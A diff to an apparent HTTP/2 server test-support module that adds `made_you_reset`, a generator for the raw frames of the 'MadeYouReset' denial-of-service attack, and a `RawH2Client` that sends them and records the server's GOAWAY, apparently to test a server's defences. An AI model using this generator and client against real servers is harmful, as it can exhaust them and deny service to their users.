@@ -5,7 +5,8 @@ is recorded as a `RecordedRequest` (headers exactly as received, pseudo-headers 
 "2") and answered through the same `Responder` hooks as HTTP/1.1, by an `H2cExchange` that adds
 `send_trailers` and `reset`. `H2Client` is a client connection whose flow control a test can
 hold (`auto_ack=False`, then `ack`), that can reset streams, send PINGs or raw frames, and
-records GOAWAY.
+records GOAWAY. `RawH2Client` writes raw bytes and keeps the frames it receives: with
+`made_you_reset`, the raw bytes of the 2025 "MadeYouReset" attack, it is that attack's client.
 """
 
 from __future__ import annotations
@@ -15,12 +16,14 @@ from collections.abc import Sequence
 from typing import TYPE_CHECKING, Any
 
 import attrs
+import hpack
 from h2 import events
 from h2.config import H2Configuration
 from h2.connection import H2Connection
 from h2.errors import ErrorCodes
 from h2.exceptions import H2Error, ProtocolError
 from h2.settings import SettingCodes
+from hyperframe.frame import DataFrame, Frame, GoAwayFrame, HeadersFrame
 from twisted.internet import defer, protocol
 from twisted.internet.endpoints import TCP4ClientEndpoint, connectProtocol
 from twisted.python.failure import Failure
@@ -583,3 +586,76 @@ async def connect(reactor: Any, host: str, port: int, **options: Any) -> H2Clien
     client = H2Client(**options)
     await connectProtocol(TCP4ClientEndpoint(reactor, host, port, timeout=5), client)
     return client
+
+
+def made_you_reset(
+    count: int, path: bytes = b"/", authority: bytes = b"example.test", first: int = 1
+) -> bytes:
+    """The "MadeYouReset" pattern for `count` streams from stream id `first` (odd): per stream,
+    HEADERS (END_STREAM|END_HEADERS, `GET path`), then DATA (no flags, 1 byte) on the now
+    half-closed stream, which the server has to reset.
+
+    Encoded with a fresh HPACK encoder: send it (connection preface first) on a connection whose
+    client has sent no header block yet.
+    """
+    encoder = hpack.Encoder()
+    fields = [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", authority), (b":path", path)]
+    out = []
+    for stream_id in range(first, first + 2 * count, 2):
+        out.append(
+            HeadersFrame(stream_id, encoder.encode(fields), flags=["END_STREAM", "END_HEADERS"]).serialize()
+        )
+        out.append(DataFrame(stream_id, b"x").serialize())
+    return b"".join(out)
+
+
+def split_frames(data: bytes) -> tuple[list[Frame], bytes]:
+    """The whole frames at the start of `data` (what a peer wrote, after the connection
+    preface), and the incomplete rest."""
+    frames = []
+    pos = 0
+    while len(data) - pos >= 9:
+        frame, length = Frame.parse_frame_header(memoryview(data[pos : pos + 9]))
+        if len(data) - pos - 9 < length:
+            break
+        frame.parse_body(memoryview(data[pos + 9 : pos + 9 + length]))
+        frames.append(frame)
+        pos += 9 + length
+    return frames, data[pos:]
+
+
+class RawH2Client(protocol.Protocol):
+    """A client that speaks HTTP/2 as bytes only: the connection preface and SETTINGS, then
+    whatever is written (`made_you_reset`, hand-made frames). It keeps every frame the
+    server sends, in `frames`; a GOAWAY fires `goaway_received` with it (an h2 client would
+    refuse the resets of streams it never opened). `lost` fires when the connection closes."""
+
+    transport: Any
+
+    def __init__(self) -> None:
+        self.frames: list[Frame] = []
+        self.buffer = b""
+        self.goaway_received: defer.Deferred[GoAwayFrame] = defer.Deferred()
+        self.lost: defer.Deferred[None] = defer.Deferred()
+
+    def connectionMade(self) -> None:
+        """Preface and SETTINGS (h2's, as a client connection starts)."""
+        conn = H2Connection(H2Configuration(client_side=True))
+        conn.initiate_connection()
+        self.transport.write(conn.data_to_send())
+
+    def dataReceived(self, data: bytes) -> None:
+        """Keep the frames; report the first GOAWAY."""
+        frames, self.buffer = split_frames(self.buffer + data)
+        self.frames.extend(frames)
+        for frame in frames:
+            if isinstance(frame, GoAwayFrame) and not self.goaway_received.called:
+                self.goaway_received.callback(frame)
+
+    def connectionLost(self, reason: Failure = protocol.connectionDone) -> None:
+        """The server closed (or the test aborted) the connection."""
+        self.lost.callback(None)
+
+    def count(self, kind: type[Frame]) -> int:
+        """How many frames of one type the server sent."""
+        return sum(1 for frame in self.frames if isinstance(frame, kind))
